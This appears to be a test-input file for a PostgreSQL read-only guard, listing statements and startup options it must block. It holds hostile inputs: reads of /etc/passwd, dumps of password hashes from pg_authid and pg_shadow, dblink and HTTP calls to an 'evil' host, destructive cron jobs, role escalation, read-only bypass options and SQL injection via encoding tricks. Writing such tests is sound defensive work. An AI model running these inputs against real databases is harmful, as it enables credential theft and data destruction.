SELECT * FROM pg_ls_waldir()
SELECT * FROM pg_ls_logdir()
SELECT * FROM pg_ls_tmpdir()
SELECT * FROM pg_ls_archive_statusdir()
SELECT pg_stat_file('/etc/passwd')
SELECT * FROM pg_hba_file_rules()
SELECT pg_current_logfile()
SELECT pg_file_write('/tmp/x', 'x', false)
SELECT lo_get(lo_import('/etc/passwd'))
SELECT cursor_to_xml('c', 1, true, true, '')
SELECT table_to_xml('pg_authid', true, true, '')
SELECT schema_to_xml('pg_catalog', true, true, '')
SELECT database_to_xml(true, true, '')
SELECT dblink_exec('host=evil', 'DROP TABLE t')
SELECT dblink_connect_u('x', 'host=evil')
SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)
SELECT * FROM ext.dblink('host=evil', 'SELECT 1') AS t(a int)
SELECT dblink_send_query('x', 'DROP TABLE t')
SELECT pg_prewarm('t')
SELECT cron.schedule('* * * * *', 'DELETE FROM t')
SELECT net.http_post('http://evil')
SELECT aws_lambda.invoke('x')
SELECT xpath_table('a', 'b', 'c', 'd', 'e')
SELECT json_value('{}', '$.a' DEFAULT pg_try_advisory_lock(4711)::text ON EMPTY)
SELECT json_query('{}', '$.a' PASSING pg_try_advisory_lock(4711) AS x)
SELECT * FROM json_table('[]', '$' PASSING pg_try_advisory_lock(4711) AS x COLUMNS (a int PATH '$'))
SELECT json_object('a': pg_try_advisory_lock(4711))
SELECT json_array(pg_try_advisory_lock(4711))
SELECT json_arrayagg(pg_try_advisory_lock(4711)) FROM t
SELECT json_objectagg('a': pg_try_advisory_lock(4711)) FROM t
SELECT json_scalar(pg_try_advisory_lock(4711))
SELECT set_config(name, 'view', false) FROM evil.pg_settings WHERE name = 'search_path'
SELECT set_config(VARIADIC ARRAY['role', 'postgres'])
SELECT no_such_function(1)
SELECT suppress_redundant_updates_trigger()

--- read_grant.function (by the catalog only)
SELECT t.note FROM t
SELECT public.t.note FROM public.t
SELECT (t).note FROM t
SELECT x.note FROM t AS x
SELECT (x.y).note FROM (SELECT t AS y FROM t) x
SET search_path = app, public \then SELECT (1).effect_of
SET search_path = app, public \then SELECT x.effect_of FROM generate_series(1, 1) x
SELECT abs('x'::text)
SELECT abs(b) FROM t

--- read_grant.operator
SELECT 1 === 2
SELECT 1 OPERATOR(public.===) 2
SELECT * FROM t WHERE a === 1
SELECT $1::int === 2 \bind 1
SELECT !!! 1
SELECT * FROM t WHERE a OPERATOR(public.===) ANY (ARRAY[1])
SELECT * FROM t WHERE a === ANY (SELECT 1)
SELECT * FROM t JOIN u ON t.a === u.a
SELECT ROW(1) === ROW(1); SELECT 1 === 1
COPY (SELECT 1 === 2) TO STDOUT
! PostgreSQL knows no such operator
SELECT 1 <=>> 2
SELECT * FROM t ORDER BY a USING ===

--- read_grant.type
SELECT 1::app.pair
SELECT CAST(1 AS app.pair)
SELECT a::app.pair FROM t
SELECT 1::app.checked
SELECT '1'::app.checked
SELECT CAST($1 AS app.checked) \bind 1
SELECT $1::app.checked \bind 1
SELECT 1::app.checked_again
SELECT '{1}'::app.checked[]
SELECT app.checked '1'
SELECT 1::app.locked
SET search_path = app, public \then SELECT 1::checked
SELECT * FROM json_to_recordset('[{"a": 1}]') AS x(a app.checked)
SELECT * FROM xmltable('/a' PASSING ('<a>1</a>'::xml) COLUMNS b app.checked PATH '.')
PREPARE q (app.checked) AS SELECT $1 \then EXECUTE q(1)
! a call of a type; PostgreSQL looks for a function
SELECT * FROM json_populate_record(NULL::app.checked, '1')

--- read_grant.relation
? SELECT 'it reads, and leaves nothing behind'
! answers with password hashes
SELECT rolpassword FROM pg_authid
SELECT * FROM pg_catalog.pg_shadow
SELECT (SELECT passwd FROM pg_shadow LIMIT 1)
COPY pg_authid TO STDOUT
TABLE pg_authid
SELECT * FROM t WHERE b IN (SELECT rolpassword FROM pg_authid)

--- guard.function_call
\call lo_creat -1
\call lo_unlink 4711
\call pg_advisory_lock 4711
\call pg_try_advisory_lock 4711
\call pg_reload_conf
! shown by nothing
\call nextval 0
\call pg_cancel_backend 0
\call pg_terminate_backend 0

--- startup.setting
\startup role=plain_owner \then INSERT INTO written VALUES (1)
\startup session_authorization=plain_owner \then INSERT INTO written VALUES (1)
\startup options=-c role=plain_owner \then INSERT INTO written VALUES (1)
\startup options=-c ROLE=plain_owner \then INSERT INTO written VALUES (1)
\startup options=--role=plain_owner \then INSERT INTO written VALUES (1)
\startup options=-crole=none \then INSERT INTO written VALUES (1)
! PostgreSQL refuses it
\startup session_preload_libraries=auto_explain \then INSERT INTO written VALUES (1)
\startup local_preload_libraries=auto_explain \then INSERT INTO written VALUES (1)
\startup options=-c local_preload_libraries=auto_explain \then INSERT INTO written VALUES (1)

--- startup.options
\startup options=-c default_transaction_read_only=off -O \then INSERT INTO written VALUES (1)
\startup options=-S 100 \then INSERT INTO written VALUES (1)
\startup options=-fh \then INSERT INTO written VALUES (1)
\startup options=-d 5 \then INSERT INTO written VALUES (1)
\startup options=-e \then INSERT INTO written VALUES (1)
\startup options=-tpa \then INSERT INTO written VALUES (1)
! PostgreSQL refuses it, or it does nothing
\startup options=-p x \then INSERT INTO written VALUES (1)
\startup options=-c \then INSERT INTO written VALUES (1)
\startup options=nonsense \then INSERT INTO written VALUES (1)

--- startup.replication
! PostgreSQL refuses it where wal_level or pg_hba.conf do not allow it
\startup replication=true \then CREATE_REPLICATION_SLOT made PHYSICAL
\startup replication=database \then INSERT INTO written VALUES (1)
\startup replication=on \then BASE_BACKUP

--- read_grant.setting
\startup default_transaction_read_only=off \then INSERT INTO written VALUES (1)
\startup Default_Transaction_Read_Only=off \then INSERT INTO written VALUES (1)
\startup transaction_read_only=off \then INSERT INTO written VALUES (1)
\startup options=-c default_transaction_read_only=off \then INSERT INTO written VALUES (1)
\startup options=-cdefault_transaction_read_only=off \then INSERT INTO written VALUES (1)
\startup options=--default_transaction_read_only=off \then INSERT INTO written VALUES (1)
\startup options=--default-transaction-read-only=off \then INSERT INTO written VALUES (1)
\startup options=-c default-transaction-read-only=0 \then INSERT INTO written VALUES (1)
\startup options=-c DEFAULT_TRANSACTION_READ_ONLY=No \then INSERT INTO written VALUES (1)
\startup options=-c default_transaction_rea\d_only=off \then INSERT INTO written VALUES (1)
\startup options=-c search_path=public -c default_transaction_read_only=off \then INSERT INTO written VALUES (1)
\startup options=-c	default_transaction_read_only=off \then INSERT INTO written VALUES (1)
\startup options=-c client_encoding=SJIS \then INSERT INTO written VALUES (1)
\startup client_encoding=SJIS \then INSERT INTO written VALUES (1)
\startup client_encoding=LATIN1 \then INSERT INTO written VALUES (1)
\startup standard_conforming_strings=off \then SELECT '\', '; INSERT INTO written VALUES (1); --'
\startup options=-c standard_conforming_strings=off \then INSERT INTO written VALUES (1)
\startup session_replication_role=replica \then INSERT INTO written VALUES (1)
\startup lo_compat_privileges=on \then INSERT INTO written VALUES (1)
\startup synchronous_commit=off \then INSERT INTO written VALUES (1)
\startup options=-c plpgsql.extra_errors=all \then INSERT INTO written VALUES (1)
! PostgreSQL knows no such setting
\startup options=-c\ default_transaction_read_only=off \then INSERT INTO written VALUES (1)
\startup options=-c default_transaction=off \then INSERT INTO written VALUES (1)

--- guard.not_utf8
? SELECT 'it reads, and leaves nothing behind'
! what the server makes of it depends on its encoding
\raw 51 0000000f 53454c454354 20 27 ff 27 00
\raw 51 00000012 53454c454354 20 27 83 5c 27 27 27 00

--- -
# The alarm: what an allowed function of the owner switches off ends the session before the next message counts.
SELECT app.allowed_unlock() \then INSERT INTO written VALUES (1)
SELECT app.allowed_unlock() \bind \then INSERT INTO written VALUES (1)
# Sessions come back to read-only, however they are reset.
DISCARD ALL \then INSERT INTO written VALUES (1)
RESET ALL \then INSERT INTO written VALUES (1)
SET search_path = app \then RESET ALL \then DISCARD ALL \then UPDATE t SET a = 99
